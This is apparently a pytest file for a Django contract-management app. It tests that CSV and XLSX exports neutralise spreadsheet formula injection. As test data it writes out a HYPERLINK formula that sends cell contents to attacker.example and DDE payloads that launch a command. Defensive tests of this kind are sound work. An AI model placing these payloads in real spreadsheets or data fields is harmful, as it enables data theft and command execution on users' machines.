"""The contract list's exports and the import templates: hostile text comes out as text, never as a formula."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from pegasus.core.roles import Role
from pegasus.estate import imports, services
from pegasus.estate.services import TowerShare
from tests.factories import OrganisationFactory, TowerFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://attacker.example/?d="&B2,"Open")'
COMMAND = "=cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"


@pytest.fixture
def hostile(signed_in):
    """A contract whose reference, title and supplier name a spreadsheet would run, stored through the services."""
    client, user = signed_in(Role.COMMERCIAL_OFFICER)
    supplier = services.supplier_create(name=COMMAND, by=user)
    contract = services.contract_create(
        towers=[TowerShare(tower=TowerFactory(code="networks", name="Networks"), share_percent=Decimal(100))],
        by=user,
        reference=PLUS,
        title=HYPERLINK,
        supplier=supplier,
        authority=OrganisationFactory(),
        tier=1,
        start_date=date(2016, 4, 1),
        initial_end_date=date(2018, 3, 31),
        notice_period_months=3,
        total_value=Decimal("3600000.00"),
        annual_value=Decimal("1200000.00"),
    )
    return client, contract


def imports_header_position(name: str) -> int:
    from pegasus.estate.exports import HEADERS

    return HEADERS.index(name) + 1


class TestContractExports:
    def test_csv_quotes_text_that_a_spreadsheet_would_run(self, hostile):
        """Each text cell that begins =, +, - or @ is written with a single quote in front; numbers are not."""
        client, _ = hostile
        body = client.get("/contracts/export.csv?as_at=2018-04-30").content.decode()
        (row,) = csv.DictReader(io.StringIO(body, newline=""))
        assert (row["Reference"], row["Title"], row["Supplier"]) == (f"'{PLUS}", f"'{HYPERLINK}", f"'{COMMAND}")
        assert row["Days to expiry"] == "-30"

    def test_xlsx_stores_text_as_text_and_numbers_as_numbers(self, hostile):
        """Each text cell is a string cell (data type s) holding the text exactly; a negative number stays a number."""
        client, _ = hostile
        sheet = load_workbook(io.BytesIO(client.get("/contracts/export.xlsx?as_at=2018-04-30").content)).active
        reference, title, supplier = sheet["A4"], sheet["B4"], sheet["C4"]
        assert [(c.value, c.data_type) for c in (reference, title, supplier)] == [
            (PLUS, "s"),
            (HYPERLINK, "s"),
            (COMMAND, "s"),
        ]
        days = sheet.cell(row=4, column=imports_header_position("Days to expiry"))
        assert (days.value, days.data_type) == (-30, "n")


class TestTemplates:
    @pytest.mark.parametrize("kind", imports.KINDS)
    def test_templates_hold_no_formula(self, kind):
        sheet = load_workbook(io.BytesIO(imports.template_xlsx(kind))).active
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
        assert next(csv.reader(io.StringIO(imports.template_csv(kind).decode()))) == [
            c.name for c in imports.COLUMNS[kind]
        ]
